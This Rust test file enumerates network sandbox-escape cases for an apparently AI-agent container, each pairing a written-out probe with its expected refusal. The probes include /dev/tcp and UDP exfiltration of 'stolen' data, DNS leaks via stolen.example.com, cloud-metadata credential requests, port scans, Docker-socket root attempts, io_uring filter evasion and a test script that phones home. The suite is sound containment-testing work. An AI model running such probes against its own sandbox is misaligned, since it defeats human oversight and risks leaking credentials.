//! Ways out over a network, or over a socket that is as good as one.

use super::{Ground, refused_call, system_call, try_perl, try_to};
use crate::attack::{
    case::{Case, Sign},
    layer::Layer,
    namespace::METADATA,
    targets::ABSTRACT,
};

pub(super) fn cases(ground: &Ground) -> Vec<Case> {
    let targets = &ground.targets;
    let refused = "Connection refused";
    let datagram = |to: &str, port: u16| {
        format!(
            "use IO::Socket::INET; my $s = IO::Socket::INET->new(Proto => \"udp\", PeerAddr => \"{to}\", PeerPort => {port}) \
             or die $!; $s->send(\"stolen\"); select(undef, undef, undef, 0.1); $s->send(\"stolen\")"
        )
    };
    let family =
        |name, tries, number| refused_call(name, tries, &format!("socket(S, {number}, 2, 0)"));
    vec![
        Case::new("tcp-to-the-host", "connects to a service on the host's loopback")
            .bash(try_to(&format!("exec 3<>/dev/tcp/127.0.0.1/{}", targets.tcp)))
            .told(Layer::Network, refused),
        Case::new("tcp-over-ipv6", "the same over IPv6")
            .bash(try_to(&format!("exec 3<>/dev/tcp/::1/{}", targets.tcp6)))
            // In Docker's rooms even the loopback has no IPv6.
            .told(Layer::Network, "bash: connect: "),
        Case::new("udp-to-the-host", "sends datagrams to the host")
            .bash(try_perl(&datagram("127.0.0.1", targets.udp)))
            .told(Layer::Network, "failed: Connection refused"),
        Case::new("dns-exfiltration", "asks a name server for a name that holds what was stolen")
            .bash(try_perl(&datagram("127.0.0.1", 53)))
            .bash(try_to("getent hosts stolen.example.com"))
            .told(Layer::Network, "failed: Connection refused")
            .told(Layer::Network, "it failed"),
        Case::new("cloud-metadata", "asks the cloud's metadata service for credentials")
            .bash(try_to(&format!("exec 3<>/dev/tcp/{METADATA}/80")))
            .told(Layer::Network, "Network is unreachable"),
        // A socket that is given the very port that it connects to, connects to itself.
        Case::new("port-scan", "tries every port of the loopback: Temporal, Postgres, the API")
            .bash(
                "perl -MSocket -e 'my $open = 0; for my $port (1..65535) { socket(S, AF_INET, SOCK_STREAM, 0) or die; \
                 $open++ if connect(S, sockaddr_in($port, INADDR_LOOPBACK)) && getsockname(S) ne getpeername(S); close S } print \"open ports: $open\\n\"'",
            )
            .told(Layer::Network, "open ports: 0\n"),
        Case::new("docker-socket", "talks to Docker, to become root on the host")
            .bash(try_perl(&format!(
                "use IO::Socket::UNIX; IO::Socket::UNIX->new(Peer => \"{}/docker.sock\")",
                ground.canary.display()
            )))
            .bash("ls /run/docker.sock /var/run/docker.sock; find / -type s 2>/dev/null | wc -l | sed 's/^/sockets: /'")
            .told(Layer::Files, "failed: No such file or directory")
            .told(Layer::Files, "sockets: 0\n"),
        Case::new("abstract-socket", "connects to a Unix socket that has no file")
            .bash(try_perl(&format!(
                "use Socket; socket(S, PF_UNIX, SOCK_STREAM, 0) and connect(S, pack_sockaddr_un(\"\\0{ABSTRACT}\"))"
            )))
            .told(Layer::Network, "failed: Connection refused"),
        family("vsock", "opens a socket to the machine's hypervisor, which no namespace confines", 40),
        family("netlink-socket", "configures the network", 16),
        family("packet-socket", "reads the wire", 17),
        family("crypto-socket", "reaches kernel code that few use", 38),
        Case::new("raw-socket", "forges packets")
            .bash(try_perl("socket(S, 2, 3, 1)"))
            .told(Layer::Privileges, "failed: Operation not permitted"),
        refused_call(
            "io-uring",
            "makes system calls that no filter sees",
            &format!("syscall({}, 1, 0) >= 0", system_call("io_uring_setup")),
        ),
        Case::new("gateway-by-port", "asks the model past Pi, over the port that Pi uses")
            .bash(try_to("exec 3<>/dev/tcp/127.0.0.1/18080"))
            .told(Layer::InnerRoom, refused),
        Case::new("gateway-by-socket", "asks the model past Pi, over the gateway's socket")
            .bash(try_perl("use IO::Socket::UNIX; IO::Socket::UNIX->new(Peer => \"/run/gw/gw.sock\")"))
            .told(Layer::InnerRoom, "failed: No such file or directory"),
        Case::new("push-by-itself", "pushes to a git server on the host")
            .bash(format!(
                "git init -q /tmp/r && cd /tmp/r && {}",
                try_to(&format!("git ls-remote git://127.0.0.1:{}/r", targets.tcp))
            ))
            .told(Layer::Network, "it failed"),
        Case::new("gate-phones-home", "a test sends what it knows to the host when QA runs it")
            .file(
                "check.sh",
                format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{}' 2>&1 && echo BROKE-OUT; exit 0\n", targets.tcp),
            )
            .held_by(Layer::Network, Sign::GateSaid(refused.to_owned())),
    ]
}
